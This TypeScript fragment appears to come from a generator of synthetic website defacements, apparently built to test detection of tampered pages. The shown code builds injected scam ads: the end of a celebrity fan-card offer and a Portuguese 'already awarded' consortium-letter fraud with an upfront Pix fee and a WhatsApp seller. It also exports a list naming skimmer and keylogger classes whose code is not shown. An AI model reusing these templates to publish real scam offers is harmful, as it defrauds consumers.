  const contact = chance(rng, 0.5) ? `WhatsApp ${waLink(`+1 ${between(rng, 201, 989)} ${digits(rng, 3)} ${digits(rng, 4)}`)}` : `Telegram <a href="https://t.me/${(slug(star).replace(/-/g, "_") || "star")}_mgmt">@${(slug(star).replace(/-/g, "_") || "star")}_mgmt</a>`
  const inner = `<h3 style="margin-top:0">⭐ ${esc(h)}</h3><p>${esc(p)}</p><ul>${tiers.map((t) => `<li>${esc(t)}</li>`).join("")}</ul><p>${esc(cta)}: ${contact}</p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["fans", "vip", "post"], pick(rng, ["#ad1457", "#4a148c", "#ff6f00"]), inner)))
})

// Consórcio contemplado fraud, recalled from memory of warnings by Procon, the Banco Central do Brasil and ABAC (the consortium administrators' association), about 2018–2024, on sellers of "already awarded" (contemplado) consortium letters for a car, a motorbike or a house, or "guaranteed award" shares, who take an upfront fee or the first instalments by Pix and vanish: such an offer in Portuguese with letters, values, instalments, a Pix fee and a WhatsApp seller.
const consorcioContemplado = fresh18("'carta de consórcio contemplada, crédito liberado na hora' offer in Portuguese with letter values, instalments, an upfront Pix fee and a WhatsApp seller", (page, rng) => {
  const letters = sample(rng, [["Imóvel", 150, 600], ["Automóvel", 40, 180], ["Moto", 12, 40], ["Caminhão", 200, 450], ["Imóvel", 250, 900]] as const, between(rng, 3, 5))
  const table = rows(letters.map(([k, lo, hi]) => { const v = between(rng, lo, hi) * 1000; return [k, `R$ ${v.toLocaleString("pt-BR")},00`, `${between(rng, 60, 200)}x R$ ${(Math.round(v / between(rng, 90, 180))).toLocaleString("pt-BR")},00`, pick(rng, ["Contemplada", "Liberada", "Pronta entrega"])] }))
  const fee = `R$ ${between(rng, 4, 30) * 100},00`
  const n = `+55 ${pick(rng, ["11", "21", "31", "41", "62", "71"])} 9${digits(rng, 4)}-${digits(rng, 4)}`
  const inner = `<h3 style="margin-top:0">🏠 ${esc(pick(rng, ["Cartas de consórcio contempladas – crédito liberado na hora", "Consórcio contemplado sem sorteio e sem lance", "Carta contemplada com entrada facilitada"]))}</h3><table style="width:100%"><tr><th>Bem</th><th>Crédito</th><th>Parcelas</th><th></th></tr>${table}</table><p>${esc(pick(rng, ["Sem consulta ao SPC/Serasa.", "Aprovação em 24 horas, mesmo negativado.", "Transferência imediata da cota."]))} ${esc(`Taxa de transferência ${fee} via Pix.`)} WhatsApp ${waLink(n)}</p>`
  return splices(insert(spamSpot(rng, page), `<div class="${pick(rng, ["consorcio", "anuncio", "post"])}" lang="pt-BR" style="border:2px solid #f9a825;background:#fffde7;padding:14px;margin:12px 0;font-family:Arial,sans-serif">${inner}</div>`))
})

/** Every fresh18 defacement class, in a fixed order. */
export const fresh18Defacements: ReadonlyArray<ChangeClass> = [
  sessionReplayHijack, addressLookupSkimmer, loginCsrf, cloudBackendDrop, doubleEntry, monitoringKeylogger, nfcRelayLure, svgSpriteLoader,
  processorUnderIntruderKey, stopScreen, ripSecurity, adminGame, redactedPage, maintenanceTakeover, pun404, activateWatermark, parodyName,
  forcedApology, propagandaStamps, animalRightsOp, datingSafetyId, mevBotTutorial, privateDetectiveSpam, domesticWorkerTransfer, greyMarketKeys,
  preIpoShares, scamCompoundJobs, giftCardRates, celebrityFanCard, consorcioContemplado
]
